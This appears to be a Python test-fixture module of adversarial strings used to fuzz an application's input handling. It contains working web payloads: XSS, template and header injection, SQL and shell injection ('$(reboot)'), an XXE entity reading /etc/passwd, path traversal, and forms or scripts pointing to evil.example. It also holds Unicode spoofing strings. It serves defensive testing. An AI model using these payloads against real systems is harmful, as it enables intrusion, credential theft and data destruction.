"""Texts that strangers choose for names and type into fields, each to break something: mark-up, templates, addresses, the direction of
text, what is invisible, lengths, formats, queries, headers.

The first 23 are of every kind, for `make test`; `make endurance` takes all.
"""

_FIRST = [
    ("element", "<img src=x onerror=alert(1)>"),
    ("script", "</title></main><script>alert(1)</script>"),
    ("attribute", "\" autofocus onfocus=\"alert(1)\" x=\""),
    ("single quote", "' onmouseover='alert(1)' x='"),
    ("section", "{{#page}}{{{title.html}}}{{/page}}{{>frame}}"),
    ("script address", "javascript:alert(document.cookie)//"),
    ("two lines", "first\r\nSet-Cookie: cs_session=stolen\r\nX-Injected: yes\r\n\r\n<h1>two</h1>"),
    ("override", "\u202egnp.exe\u202c ada@example.com"),
    ("isolates", "\u2066\u2067\u2068left open"),
    ("right to left", "مرحبا بالعالم ١٢٣ (abc) שלום"),
    ("zero width", "pay\u200bpal\u2060 \ufeffinc\u00ad."),
    ("nothing that shows", "\u200b\u2060\ufeff\u3164\u115f"),
    ("marks", "Z" + "\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307" * 16 + "algo"),
    ("enclosing marks", "A" + "\u20dd\u20de\u20e0" * 42),
    ("one long word", "W" * 4000),
    ("emoji", "👩🏽‍❤️‍💋‍👨🏿🏴󠁧󠁢󠁳󠁣󠁴󠁿🇩🇪1️⃣"),
    ("zero byte", "be\u0000fore <b>after</b>"),
    ("lone surrogate", "half \ud83d of one"),
    ("format", "%s%n%@%1$s{0}${7*7}\\(1)"),
    ("query", "'; DROP TABLE users; -- "),
    ("signs that bind", "\u0d4e\"\u0d4e'\u0d4e>\u0d4e<img src=x onerror=alert(1)\u0d4e>"),
    ("marks upon mark-up", "\"\u0301 '\u0301 >\u0301<\u0301img src=x onerror=alert(1)>\u0301 &\u0301lt;"),
    ("character references", "&lt;b&gt;&#x3c;i&#62;&amp;amp;&NotEqualTilde;"),
]

_MORE = [
    ("svg", "<svg/onload=alert(1)>"),
    ("svg in mathml", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("frame", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>"),
    ("base", "<base href=//evil.example/>"),
    ("refresh", "<meta http-equiv=refresh content=0;url=//evil.example>"),
    ("style", "<style>*{display:none}</style>"),
    ("link", "<link rel=stylesheet href=//evil.example/x.css>"),
    ("form", "</form><form action=//evil.example><input name=password>"),
    ("button elsewhere", "<button formaction=//evil.example>Go on</button>"),
    ("textarea", "</textarea></title></style></noscript><b>out</b>"),
    ("comment", "<!--><script>alert(1)</script--> -->"),
    ("character data", "]]><b>out</b><![CDATA["),
    ("processing", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;"),
    ("unquoted", "x onclick=alert(1) y=z/"),
    ("backquote", "`onclick=alert(1)`"),
    ("slashes in an element", "<a/href=/x/onclick=alert(1)>here</a>"),
    ("uppercase", "<SCRIPT SRC=//EVIL.EXAMPLE/X></SCRIPT>"),
    ("zero byte in an element", "<scr\u0000ipt>alert(1)</scr\u0000ipt>"),
    ("seven bits", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    ("half width", "＜script＞alert(1)＜/script＞"),
    ("overlong", "\u013cscript\u013ealert(1)"),
    ("template with a dot", "{{.}}{{{.}}}{{&.}}"),
    ("template comment", "{{! }} {{=<% %>=}} <%page%>"),
    ("template parent", "{{$block}}{{<parent}}{{/parent}}"),
    ("other templates", "${{7*7}} #{7*7} <%= 7*7 %> [[7*7]] @(7*7)"),
    ("data address", "data:text/html,<script>alert(1)</script>"),
    ("vbscript", "vbscript:msgbox(1)"),
    ("script address with a tab", "java\tscript:alert(1)"),
    ("address of another site", "//evil.example/%2f.."),
    ("backslashes", "\\\\evil.example\\@example.com"),
    ("credentials in an address", "https://example.com@evil.example/"),
    ("address of this machine", "http://[::1]:1/?a=b&c=d#e"),
    ("path upwards", "../../../../etc/passwd%00.html"),
    ("two escapes", "%253Cscript%253Ealert(1)%253C/script%253E"),
    ("embedding", "\u202a\u202b\u202d all open \u200e\u200f\u061c"),
    ("arabic with an override", "\u202dشركة\u202c <bdo dir=rtl>x</bdo>"),
    ("cyrillic", "рaypal.com Аdmin"),
    ("full width", "ａｄｍｉｎ＠ｅｘａｍｐｌｅ．ｃｏｍ"),
    ("mathematical", "𝐀𝐝𝐦𝐢𝐧 ℂ𝕠𝕦𝕟𝕥"),
    ("joiners alone", "\u200d\u200c\u200d\ufe0f\ufe0e"),
    ("tags that do not show", "ada\U000e0068\U000e0069\U000e0064\U000e0065"),
    ("separators of lines", "one\u2028two\u2029three\u0085four\u000bfive\u000csix"),
    ("controls", "\u0001\u0002\u0007\u0008\u001b[31mred\u001b[0m\u007f\u0080\u009f"),
    ("noncharacters", "\ufffe\uffff\U0001fffe\U0010ffff"),
    ("private use", "\ue000\uf8ff\U000f0000"),
    ("replacement", "\ufffd\ufffd\ufffc"),
    ("annotation", "\ufff9base\ufffaruby\ufffb"),
    ("ligature", "﷽﷽﷽﷽﷽﷽﷽﷽﷽﷽﷽﷽"),
    ("one long word of kanji", "漢" * 3000),
    ("many words", "word " * 900),
    ("one long line of dots", "." * 3000),
    ("long with breaks", "a/" * 2000),
    ("unbreakable spaces", "a\u00a0" * 300),
    ("flags without an end", "🇩" * 401),
    ("joined without an end", "👨‍" * 300),
    ("surrogates in the wrong order", "\udc00\ud800"),
    ("number", "1e309"),
    ("words of programs", "null undefined NaN true [object Object] __proto__"),
    ("shell", "$(reboot)`reboot`;reboot|reboot&&reboot"),
    ("directory", "*)(uid=*))(|(uid=*"),
    ("sql in a union", "\" UNION SELECT password FROM users WHERE \"1\"=\"1"),
    ("pattern", "^(([a-z])+.)+[A-Z]([a-z])+$" + "a" * 200 + "!"),
    ("header", "x\nLocation: https://evil.example/\nContent-Length: 0"),
    ("header in escapes", "%0d%0aSet-Cookie:%20a=b"),
    ("cookie", "a=b; Path=/; Domain=evil.example"),
    ("mail header", "ada@example.com\nBcc: everyone@example.com"),
    ("spaces", "   \t  "),
    ("quotes", "‘’“”„«»\"'`´"),
    ("json", "\"},\"role\":\"admin\",{\"a\":\""),
]


# What may want more room than there is, or push other text away.
BULKY = {
    "two lines", "override", "isolates", "right to left", "nothing that shows", "marks", "enclosing marks", "one long word",
    "emoji"}


# What is tried in the console too where not all is: mark-up, templates, lines, directions, what no line
# breaks within, and what is no text.
OF_CONSOLE = {
    "script", "attribute", "section", "two lines", "override", "right to left", "enclosing marks", "lone surrogate"}


def texts(everything):
    """Names and texts."""
    return _FIRST + _MORE if everything else _FIRST
